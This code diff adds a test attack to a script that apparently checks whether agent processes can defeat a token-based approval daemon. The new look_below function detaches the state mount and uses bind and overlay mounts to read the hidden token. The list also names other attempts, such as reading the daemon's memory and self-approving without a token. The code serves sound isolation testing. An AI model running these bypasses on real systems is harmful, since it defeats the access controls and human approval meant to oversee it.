@@ -6,12 +6,14 @@ this process does not hold it), ``daemon``, ``sibling`` (pids), ``url``, ``data`
 Prints one line of JSON: for each attack whether it has succeeded.
 """
 
+import ctypes
 import json
 import os
 import re
 import signal
 import sqlite3
 import sys
+import tempfile
 import urllib.error
 import urllib.request
 from collections.abc import Callable, Iterator
@@ -71,6 +73,29 @@ def file() -> bool:
             with suppress(OSError):
                 if found.is_file() and held(found.read_bytes()):
                     return True
+    return False
+
+
+def look_below() -> bool:
+    """As who is root here: by taking away what is mounted over the files, or by mounting what is below it elsewhere."""
+    libc = ctypes.CDLL(None)
+    state = os.fsencode(PLACES["state"])
+    libc.umount2(state, 2)  # MNT_DETACH
+    if file():
+        return True
+    with tempfile.TemporaryDirectory() as place:
+        layers = f"lowerdir=/,upperdir={place}/upper,workdir={place}/work".encode()
+        for name in ("there", "upper", "work"):
+            Path(place, name).mkdir()
+        there = os.fsencode(f"{place}/there")
+        for source, kind, flags, data in ((b"/", None, 0x1000, None), (b"o", b"overlay", 0, layers)):
+            if libc.mount(source, there, kind, ctypes.c_ulong(flags), data) == 0:
+                try:
+                    return held(Path(f"{place}/there{PLACES['state']}/token").read_bytes())
+                except OSError:
+                    continue
+                finally:
+                    libc.umount2(there, 2)
     return False
 
 
@@ -137,6 +162,7 @@ ATTACKS: dict[str, Callable[[], bool]] = {
     "read the token in the daemon's memory": memory,
     "open the daemon's files by their descriptors": descriptors,
     "read the stored token": file,
+    "read the stored token below what hides it": look_below,
     "approve its own ask without a token": approve,
     "write to another agent's stdin": stdin_of_another,
     "write to another agent's stdout": stdout_of_another,
